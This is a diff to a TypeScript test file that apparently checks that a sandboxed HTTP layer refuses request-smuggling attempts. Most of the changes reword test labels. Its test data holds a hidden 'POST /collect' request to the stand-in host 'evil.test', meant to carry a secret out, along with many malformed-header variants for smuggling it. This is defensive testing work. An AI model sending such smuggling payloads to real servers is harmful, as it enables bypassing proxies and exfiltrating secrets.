@@ -7,7 +7,7 @@ import { openRuledSandbox, type RuledSandbox, SECRETS, say } from '../support/ru
 import { openRuledWorld, type RuledWorld } from '../support/ruled-world.ts';
 
 const isRoot = process.getuid?.() === 0;
-/** It would treat what follows as its body, including the secret. */
+/** A server would treat what follows as the body, including the secret. */
 const HIDDEN = 'POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 120\r\n\r\n';
 const SIZE = HIDDEN.length;
 const CHUNK = `${SIZE.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
@@ -18,7 +18,7 @@ const METHODS = ['GET', 'DELETE', 'OPTIONS', 'HEAD', 'POST'] as const;
 const REFUSED: [string, string][] = [
   ['Connection: content-length', `Connection: content-length\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
   [
-    'a Connection of several',
+    'a Connection header with several names',
     `Connection: close\r\nConnection: x-a,Content-LENGTH \r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`,
   ],
   [
@@ -46,9 +46,9 @@ const REFUSED_HEADS: [string, string][] = [
   ['a sign', `Content-Length: +${SIZE}\r\n\r\n${HIDDEN}`],
   ['a hexadecimal length', `Content-Length: 0x${SIZE.toString(16)}\r\n\r\n${HIDDEN}`],
   ['an empty length', `Content-Length:\r\n\r\n${HIDDEN}`],
-  ['a length beyond all numbers', `Content-Length: 18446744073709551616\r\n\r\n${HIDDEN}`],
+  ['an out-of-range length', `Content-Length: 18446744073709551616\r\n\r\n${HIDDEN}`],
   ['a folded header', `X-A: a\r\n Content-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
-  ['a blank before the colon', `Content-Length : ${SIZE}\r\n\r\n${HIDDEN}`],
+  ['a space before the colon', `Content-Length : ${SIZE}\r\n\r\n${HIDDEN}`],
   ['a bare line feed', `X-A: a\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
   ['a bare carriage return', `X-A: a\rContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
   ['a NUL', `X-A: a\0\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`],
@@ -158,7 +158,11 @@ except OSError as e: print(e)`,
           `Connection: x-local\r\nX-Local: a\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`,
         ] as const,
         [method, 'chunks', `Transfer-Encoding: \t Chunked\r\n\r\n${CHUNK}`] as const,
-        [method, 'a trailer for a length', `Trailer: x\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`] as const,
+        [
+          method,
+          'a Trailer header with a length',
+          `Trailer: x\r\nContent-Length: ${SIZE}\r\n\r\n${HIDDEN}`,
+        ] as const,
         [
           method,
           'an expectation',
